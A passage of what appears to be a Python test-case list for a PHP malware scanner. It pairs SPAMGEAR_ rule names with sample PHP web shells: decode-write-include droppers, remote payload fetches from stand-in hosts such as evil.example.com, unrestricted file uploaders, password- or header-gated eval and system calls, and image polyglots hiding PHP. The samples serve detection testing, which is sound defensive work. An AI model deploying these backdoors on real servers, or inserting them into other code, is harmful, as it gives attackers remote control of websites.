        True,
    ),  # a/c01.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$code = base64_decode($_POST['c']);\n$tmp = tempnam(sys_get_temp_dir(), 'x');\nfile_put_contents($tmp, $code);\ninclude $tmp;\nunlink($tmp);\n"
        ),
        True,
    ),  # a/c01.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$code = base64_decode($_POST['c']);\n$tmp = tempnam(sys_get_temp_dir(), 'x');\nfile_put_contents($tmp, $code);\ninclude $tmp;\nunlink($tmp);\n"
        ),
        True,
    ),  # a/c01.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $f = '/tmp/.sess_' . md5('a'); file_put_contents($f, '<?php ' . $_REQUEST['x']); require $f;"
        ),
        True,
    ),  # a/c02.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $f = '/tmp/.sess_' . md5('a'); file_put_contents($f, '<?php ' . $_REQUEST['x']); require $f;"
        ),
        True,
    ),  # a/c02.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $f = '/tmp/.sess_' . md5('a'); file_put_contents($f, '<?php ' . $_REQUEST['x']); require $f;"
        ),
        True,
    ),  # a/c02.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$fn = __DIR__ . '/.cache.php';\nif (isset($_POST['u'])) { file_put_contents($fn, gzinflate(base64_decode($_POST['u']))); }\nif (file_exists($fn)) include_once $fn;\n"
        ),
        True,
    ),  # a/c03.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$fn = __DIR__ . '/.cache.php';\nif (isset($_POST['u'])) { file_put_contents($fn, gzinflate(base64_decode($_POST['u']))); }\nif (file_exists($fn)) include_once $fn;\n"
        ),
        True,
    ),  # a/c03.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$fn = __DIR__ . '/.cache.php';\nif (isset($_POST['u'])) { file_put_contents($fn, gzinflate(base64_decode($_POST['u']))); }\nif (file_exists($fn)) include_once $fn;\n"
        ),
        True,
    ),  # a/c03.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $f = sys_get_temp_dir() . '/x.php'; file_put_contents($f, file_get_contents('http://evil.example.com/p.txt')); include($f);"
        ),
        True,
    ),  # a/c04.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $f = sys_get_temp_dir() . '/x.php'; file_put_contents($f, file_get_contents('http://evil.example.com/p.txt')); include($f);"
        ),
        True,
    ),  # a/c04.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $f = sys_get_temp_dir() . '/x.php'; file_put_contents($f, file_get_contents('http://evil.example.com/p.txt')); include($f);"
        ),
        True,
    ),  # a/c04.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $h = fopen('tmp.php', 'w'); fwrite($h, base64_decode($_COOKIE['c'])); fclose($h); include 'tmp.php'; unlink('tmp.php');"
        ),
        True,
    ),  # a/c05.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $h = fopen('tmp.php', 'w'); fwrite($h, base64_decode($_COOKIE['c'])); fclose($h); include 'tmp.php'; unlink('tmp.php');"
        ),
        True,
    ),  # a/c05.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $h = fopen('tmp.php', 'w'); fwrite($h, base64_decode($_COOKIE['c'])); fclose($h); include 'tmp.php'; unlink('tmp.php');"
        ),
        True,
    ),  # a/c05.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$payload = $_SERVER['HTTP_X_PAYLOAD'];\n$path = dirname(__FILE__) . '/wp-tmp-' . substr(md5(__FILE__), 0, 6) . '.php';\nfile_put_contents($path, base64_decode($payload));\nrequire_once $path;\n@unlink($path);\n"
        ),
        True,
    ),  # a/c06.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$payload = $_SERVER['HTTP_X_PAYLOAD'];\n$path = dirname(__FILE__) . '/wp-tmp-' . substr(md5(__FILE__), 0, 6) . '.php';\nfile_put_contents($path, base64_decode($payload));\nrequire_once $path;\n@unlink($path);\n"
        ),
        True,
    ),  # a/c06.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$payload = $_SERVER['HTTP_X_PAYLOAD'];\n$path = dirname(__FILE__) . '/wp-tmp-' . substr(md5(__FILE__), 0, 6) . '.php';\nfile_put_contents($path, base64_decode($payload));\nrequire_once $path;\n@unlink($path);\n"
        ),
        True,
    ),  # a/c06.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $t = tmpfile(); fwrite($t, '<?php ' . base64_decode($_POST['z'])); $m = stream_get_meta_data($t); include $m['uri'];"
        ),
        True,
    ),  # a/c07.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $t = tmpfile(); fwrite($t, '<?php ' . base64_decode($_POST['z'])); $m = stream_get_meta_data($t); include $m['uri'];"
        ),
        True,
    ),  # a/c07.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $t = tmpfile(); fwrite($t, '<?php ' . base64_decode($_POST['z'])); $m = stream_get_meta_data($t); include $m['uri'];"
        ),
        True,
    ),  # a/c07.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$cache = WP_CONTENT_DIR . '/cache/.object.php';\nif (!is_file($cache) || filemtime($cache) < time() - 3600) {\n  $r = @file_get_contents('http://cdn.example.xyz/o.txt');\n  if ($r) file_put_contents($cache, $r);\n}\n@include $cache;\n"
        ),
        True,
    ),  # a/c08.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$cache = WP_CONTENT_DIR . '/cache/.object.php';\nif (!is_file($cache) || filemtime($cache) < time() - 3600) {\n  $r = @file_get_contents('http://cdn.example.xyz/o.txt');\n  if ($r) file_put_contents($cache, $r);\n}\n@include $cache;\n"
        ),
        True,
    ),  # a/c08.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$cache = WP_CONTENT_DIR . '/cache/.object.php';\nif (!is_file($cache) || filemtime($cache) < time() - 3600) {\n  $r = @file_get_contents('http://cdn.example.xyz/o.txt');\n  if ($r) file_put_contents($cache, $r);\n}\n@include $cache;\n"
        ),
        True,
    ),  # a/c08.php embedded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; } ?>\n<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>"
        ),
        True,
    ),  # a/d01.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; } ?>\n<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>"
        ),
        True,
    ),  # a/d01.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; } ?>\n<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>"
        ),
        True,
    ),  # a/d01.php embedded
    (
        "SPAMGEAR_TOOLKIT_UploadToInputPath",
        plain(
            "<?php if ($_POST['pw'] == 's3cretPass') { @copy($_FILES['u']['tmp_name'], $_POST['dir'] . '/' . $_FILES['u']['name']); echo 'OK'; }"
        ),
        True,
    ),  # a/d02.php
    (
        "SPAMGEAR_TOOLKIT_UploadToInputPath",
        padded(
            "<?php if ($_POST['pw'] == 's3cretPass') { @copy($_FILES['u']['tmp_name'], $_POST['dir'] . '/' . $_FILES['u']['name']); echo 'OK'; }"
        ),
        True,
    ),  # a/d02.php padded
    (
        "SPAMGEAR_TOOLKIT_UploadToInputPath",
        embedded(
            "<?php if ($_POST['pw'] == 's3cretPass') { @copy($_FILES['u']['tmp_name'], $_POST['dir'] . '/' . $_FILES['u']['name']); echo 'OK'; }"
        ),
        True,
    ),  # a/d02.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            '<?php move_uploaded_file($_FILES["file"]["tmp_name"], dirname(__FILE__) . "/" . $_FILES["file"]["name"]); echo \'uploaded\';'
        ),
        True,
    ),  # a/d03.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            '<?php move_uploaded_file($_FILES["file"]["tmp_name"], dirname(__FILE__) . "/" . $_FILES["file"]["name"]); echo \'uploaded\';'
        ),
        True,
    ),  # a/d03.php padded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php\n$t = $_FILES['up']['tmp_name'];\n$n = $_FILES['up']['name'];\n@move_uploaded_file($t, './' . $n);\necho \"<a href='$n'>$n</a>\";\n"
        ),
        True,
    ),  # a/d04.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php\n$t = $_FILES['up']['tmp_name'];\n$n = $_FILES['up']['name'];\n@move_uploaded_file($t, './' . $n);\necho \"<a href='$n'>$n</a>\";\n"
        ),
        True,
    ),  # a/d04.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain("<?php move_uploaded_file($_FILES['a']['tmp_name'], $_GET['to']);"),
        True,
    ),  # a/d05.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php move_uploaded_file($_FILES['a']['tmp_name'], $_GET['to']);"),
        True,
    ),  # a/d05.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded("<?php move_uploaded_file($_FILES['a']['tmp_name'], $_GET['to']);"),
        True,
    ),  # a/d05.php embedded
    (
        "SPAMGEAR_TOOLKIT_UploadTargetFromInput",
        plain(
            "<?php\n$dest = $_REQUEST['d'] . basename($_FILES['x']['name']);\nif (move_uploaded_file($_FILES['x']['tmp_name'], $dest)) echo \"OK\"; else echo \"FAIL\";\n"
        ),
        True,
    ),  # a/d06.php
    (
        "SPAMGEAR_TOOLKIT_UploadTargetFromInput",
        padded(
            "<?php\n$dest = $_REQUEST['d'] . basename($_FILES['x']['name']);\nif (move_uploaded_file($_FILES['x']['tmp_name'], $dest)) echo \"OK\"; else echo \"FAIL\";\n"
        ),
        True,
    ),  # a/d06.php padded
    (
        "SPAMGEAR_TOOLKIT_UploadTargetFromInput",
        embedded(
            "<?php\n$dest = $_REQUEST['d'] . basename($_FILES['x']['name']);\nif (move_uploaded_file($_FILES['x']['tmp_name'], $dest)) echo \"OK\"; else echo \"FAIL\";\n"
        ),
        True,
    ),  # a/d06.php embedded
    (
        "SPAMGEAR_TOOLKIT_FilesLoopClientName",
        plain(
            "<?php foreach ($_FILES as $k => $f) { move_uploaded_file($f['tmp_name'], $f['name']); } echo 'done';"
        ),
        True,
    ),  # a/d07.php
    (
        "SPAMGEAR_TOOLKIT_FilesLoopClientName",
        padded(
            "<?php foreach ($_FILES as $k => $f) { move_uploaded_file($f['tmp_name'], $f['name']); } echo 'done';"
        ),
        True,
    ),  # a/d07.php padded
    (
        "SPAMGEAR_TOOLKIT_FilesLoopClientName",
        embedded(
            "<?php foreach ($_FILES as $k => $f) { move_uploaded_file($f['tmp_name'], $f['name']); } echo 'done';"
        ),
        True,
    ),  # a/d07.php embedded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php if (md5($_GET['k']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>'; if (!empty($_FILES)) { copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); } }"
        ),
        True,
    ),  # a/d08.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php if (md5($_GET['k']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>'; if (!empty($_FILES)) { copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); } }"
        ),
        True,
    ),  # a/d08.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php if (md5($_GET['k']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>'; if (!empty($_FILES)) { copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); } }"
        ),
        True,
    ),  # a/d08.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php if (isset($_SERVER['HTTP_X_UP'])) { move_uploaded_file($_FILES[0]['tmp_name'], $_SERVER['HTTP_X_UP']); }"
        ),
        True,
    ),  # a/d09.php
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php if (isset($_SERVER['HTTP_X_UP'])) { move_uploaded_file($_FILES[0]['tmp_name'], $_SERVER['HTTP_X_UP']); }"
        ),
        True,
    ),  # a/d09.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php if (isset($_SERVER['HTTP_X_UP'])) { move_uploaded_file($_FILES[0]['tmp_name'], $_SERVER['HTTP_X_UP']); }"
        ),
        True,
    ),  # a/d09.php embedded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            '<?php\necho \'<form action="" method="post" enctype="multipart/form-data" name="uploader" id="uploader">\';\necho \'<input type="file" name="file" size="50"><input name="_upl" type="submit" id="_upl" value="Upload"></form>\';\nif ($_POST[\'_upl\'] == "Upload") {\n  if (@copy($_FILES[\'file\'][\'tmp_name\'], $_FILES[\'file\'][\'name\'])) { echo \'<b>Upload OK</b>\'; } else { echo \'<b>Upload Fail</b>\'; }\n}\n'
        ),
        True,
    ),  # a/d10.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            '<?php\necho \'<form action="" method="post" enctype="multipart/form-data" name="uploader" id="uploader">\';\necho \'<input type="file" name="file" size="50"><input name="_upl" type="submit" id="_upl" value="Upload"></form>\';\nif ($_POST[\'_upl\'] == "Upload") {\n  if (@copy($_FILES[\'file\'][\'tmp_name\'], $_FILES[\'file\'][\'name\'])) { echo \'<b>Upload OK</b>\'; } else { echo \'<b>Upload Fail</b>\'; }\n}\n'
        ),
        True,
    ),  # a/d10.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            '<?php\necho \'<form action="" method="post" enctype="multipart/form-data" name="uploader" id="uploader">\';\necho \'<input type="file" name="file" size="50"><input name="_upl" type="submit" id="_upl" value="Upload"></form>\';\nif ($_POST[\'_upl\'] == "Upload") {\n  if (@copy($_FILES[\'file\'][\'tmp_name\'], $_FILES[\'file\'][\'name\'])) { echo \'<b>Upload OK</b>\'; } else { echo \'<b>Upload Fail</b>\'; }\n}\n'
        ),
        True,
    ),  # a/d10.php embedded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain(
            "<?php if (!empty($_FILES['f'])) file_put_contents($_FILES['f']['name'], file_get_contents($_FILES['f']['tmp_name']));"
        ),
        True,
    ),  # a/d11.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded(
            "<?php if (!empty($_FILES['f'])) file_put_contents($_FILES['f']['name'], file_get_contents($_FILES['f']['tmp_name']));"
        ),
        True,
    ),  # a/d11.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded(
            "<?php if (!empty($_FILES['f'])) file_put_contents($_FILES['f']['name'], file_get_contents($_FILES['f']['tmp_name']));"
        ),
        True,
    ),  # a/d11.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if (is_uploaded_file($_FILES['f']['tmp_name'])) rename($_FILES['f']['tmp_name'], getcwd() . '/' . $_FILES['f']['name']);"
        ),
        True,
    ),  # a/d12.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if (is_uploaded_file($_FILES['f']['tmp_name'])) rename($_FILES['f']['tmp_name'], getcwd() . '/' . $_FILES['f']['name']);"
        ),
        True,
    ),  # a/d12.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php\n$uploaddir = $_POST['path'];\n$uploadfile = $uploaddir . '/' . $_FILES['userfile']['name'];\nif (move_uploaded_file($_FILES['userfile']['tmp_name'], $uploadfile)) { print \"File is valid, and was successfully uploaded.\"; }\n"
        ),
        True,
    ),  # a/d13.php
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php\n$uploaddir = $_POST['path'];\n$uploadfile = $uploaddir . '/' . $_FILES['userfile']['name'];\nif (move_uploaded_file($_FILES['userfile']['tmp_name'], $uploadfile)) { print \"File is valid, and was successfully uploaded.\"; }\n"
        ),
        True,
    ),  # a/d13.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php\n$uploaddir = $_POST['path'];\n$uploadfile = $uploaddir . '/' . $_FILES['userfile']['name'];\nif (move_uploaded_file($_FILES['userfile']['tmp_name'], $uploadfile)) { print \"File is valid, and was successfully uploaded.\"; }\n"
        ),
        True,
    ),  # a/d13.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php $x=$_FILES['x']; if($x){ @move_uploaded_file($x['tmp_name'], $_SERVER['DOCUMENT_ROOT'].'/'.$x['name']); die('OK:'.$x['name']); }"
        ),
        True,
    ),  # a/d14.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php $x=$_FILES['x']; if($x){ @move_uploaded_file($x['tmp_name'], $_SERVER['DOCUMENT_ROOT'].'/'.$x['name']); die('OK:'.$x['name']); }"
        ),
        True,
    ),  # a/d14.php padded
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", b"GIF89a;\n<?php system($_GET['c']); ?>", True),  # a/e01.gif
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", b"GIF89a\n<?php eval($_POST[1]);?>", True),  # a/e02.gif
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"GIF89a<?php eval(base64_decode($_REQUEST['d'])); ?>",
        True,
    ),  # a/e08.gif
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00<?php $c=$_COOKIE['c'];if($c){eval(gzinflate(base64_decode($c)));}?>",
        True,
    ),  # a/e09.jpg
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00 \x00<?php assert($_POST['x']);?>",
        True,
    ),  # a/e10.ico
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        b"<?php /* fake text */ eval(str_rot13(base64_decode($_POST['q']))); ?>",
        True,
    ),  # a/e11.txt
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain("<?php if (md5($_POST['p']) === '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { eval($_POST['c']); }"),
        True,
    ),  # a/f01.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded("<?php if (md5($_POST['p']) === '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { eval($_POST['c']); }"),
        True,
    ),  # a/f01.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded("<?php if (md5($_POST['p']) === '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { eval($_POST['c']); }"),
        True,
    ),  # a/f01.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (sha1($_COOKIE['auth']) == '3c0a7d4e9b2f1a8c6e5d4c3b2a1f0e9d8c7b6a59') { system($_COOKIE['cmd']); }"
        ),
        True,
    ),  # a/f02.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (sha1($_COOKIE['auth']) == '3c0a7d4e9b2f1a8c6e5d4c3b2a1f0e9d8c7b6a59') { system($_COOKIE['cmd']); }"
        ),
        True,
    ),  # a/f02.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (sha1($_COOKIE['auth']) == '3c0a7d4e9b2f1a8c6e5d4c3b2a1f0e9d8c7b6a59') { system($_COOKIE['cmd']); }"
        ),
        True,
    ),  # a/f02.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (hash('sha256', $_GET['k']) === 'a3f1c9e07b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f') { @eval(base64_decode($_POST['z'])); }"
        ),
        True,
    ),  # a/f03.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (hash('sha256', $_GET['k']) === 'a3f1c9e07b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f') { @eval(base64_decode($_POST['z'])); }"
        ),
        True,
    ),  # a/f03.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (hash('sha256', $_GET['k']) === 'a3f1c9e07b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f') { @eval(base64_decode($_POST['z'])); }"
        ),
        True,
    ),  # a/f03.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (password_verify($_POST['pass'], '$2y$10$abcdefghijklmnopqrstuuJb0yZ2S0mQ7m5Yb0QnZ6sJcXk9p1y6')) { eval($_POST['code']); }"
        ),
        True,
    ),  # a/f04.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (password_verify($_POST['pass'], '$2y$10$abcdefghijklmnopqrstuuJb0yZ2S0mQ7m5Yb0QnZ6sJcXk9p1y6')) { eval($_POST['code']); }"
        ),
        True,
    ),  # a/f04.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (password_verify($_POST['pass'], '$2y$10$abcdefghijklmnopqrstuuJb0yZ2S0mQ7m5Yb0QnZ6sJcXk9p1y6')) { eval($_POST['code']); }"
        ),
        True,
    ),  # a/f04.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php if (crypt($_POST['p'], '$1$xYz$') == '$1$xYz$Vd7QmT1K2aB3cD4eF5gH6.') { echo shell_exec($_POST['c']); }"
        ),
        True,
    ),  # a/f05.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php if (crypt($_POST['p'], '$1$xYz$') == '$1$xYz$Vd7QmT1K2aB3cD4eF5gH6.') { echo shell_exec($_POST['c']); }"
        ),
        True,
    ),  # a/f05.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if (crypt($_POST['p'], '$1$xYz$') == '$1$xYz$Vd7QmT1K2aB3cD4eF5gH6.') { echo shell_exec($_POST['c']); }"
        ),
        True,
    ),  # a/f05.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php\n$pw = $_REQUEST['pw'];\nif (md5($pw) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') {\n  $c = $_REQUEST['c'];\n  echo '<pre>' . shell_exec($c) . '</pre>';\n}\n"
        ),
        True,
    ),  # a/f06.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php\n$pw = $_REQUEST['pw'];\nif (md5($pw) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') {\n  $c = $_REQUEST['c'];\n  echo '<pre>' . shell_exec($c) . '</pre>';\n}\n"
        ),
        True,
    ),  # a/f06.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php\n$pw = $_REQUEST['pw'];\nif (md5($pw) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') {\n  $c = $_REQUEST['c'];\n  echo '<pre>' . shell_exec($c) . '</pre>';\n}\n"
        ),
        True,
    ),  # a/f06.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (isset($_COOKIE['x']) && $_COOKIE['x'] == 'k9Ld83') eval(base64_decode($_COOKIE['y']));"
        ),
        True,
    ),  # a/f07.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (isset($_COOKIE['x']) && $_COOKIE['x'] == 'k9Ld83') eval(base64_decode($_COOKIE['y']));"
        ),
        True,
    ),  # a/f07.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (isset($_COOKIE['x']) && $_COOKIE['x'] == 'k9Ld83') eval(base64_decode($_COOKIE['y']));"
        ),
        True,
    ),  # a/f07.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (isset($_SERVER['HTTP_X_AUTH']) && $_SERVER['HTTP_X_AUTH'] === 'k3yZ') { eval(base64_decode($_SERVER['HTTP_X_CODE'])); }"
        ),
        True,
    ),  # a/f08.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (isset($_SERVER['HTTP_X_AUTH']) && $_SERVER['HTTP_X_AUTH'] === 'k3yZ') { eval(base64_decode($_SERVER['HTTP_X_CODE'])); }"
        ),
        True,
    ),  # a/f08.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (isset($_SERVER['HTTP_X_AUTH']) && $_SERVER['HTTP_X_AUTH'] === 'k3yZ') { eval(base64_decode($_SERVER['HTTP_X_CODE'])); }"
        ),
        True,
    ),  # a/f08.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Xd3v1l') !== false) { eval(base64_decode($_POST['z'])); }"
        ),
        True,
    ),  # a/f09.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Xd3v1l') !== false) { eval(base64_decode($_POST['z'])); }"
        ),
        True,
    ),  # a/f09.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Xd3v1l') !== false) { eval(base64_decode($_POST['z'])); }"
        ),
        True,
    ),  # a/f09.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php if ($_SERVER['HTTP_USER_AGENT'] === 'Mozilla/5.0 (BotX 1.1)') { @system($_GET['c']); }"),
        True,
    ),  # a/f10.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] === 'Mozilla/5.0 (BotX 1.1)') { @system($_GET['c']); }"
        ),
        True,
    ),  # a/f10.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] === 'Mozilla/5.0 (BotX 1.1)') { @system($_GET['c']); }"
        ),
        True,
    ),  # a/f10.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain("<?php hash_equals('9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a', md5($_GET['k'])) && eval($_POST['c']);"),
        True,
    ),  # a/f11.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php hash_equals('9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a', md5($_GET['k'])) && eval($_POST['c']);"
        ),
        True,
    ),  # a/f11.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php hash_equals('9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a', md5($_GET['k'])) && eval($_POST['c']);"
        ),
        True,
    ),  # a/f11.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5(md5($_POST['k'])) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { assert($_POST['a']); }"
        ),
        True,
    ),  # a/f12.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5(md5($_POST['k'])) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { assert($_POST['a']); }"
        ),
        True,
    ),  # a/f12.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5(md5($_POST['k'])) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { assert($_POST['a']); }"
        ),
        True,
    ),  # a/f12.php embedded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        plain(
            "<?php $k = isset($_COOKIE['k']) ? $_COOKIE['k'] : ''; if (substr(md5($k), 0, 8) === 'abcd1234') { include $_FILES['f']['tmp_name']; }"
        ),
        True,
    ),  # a/f13.php
    (
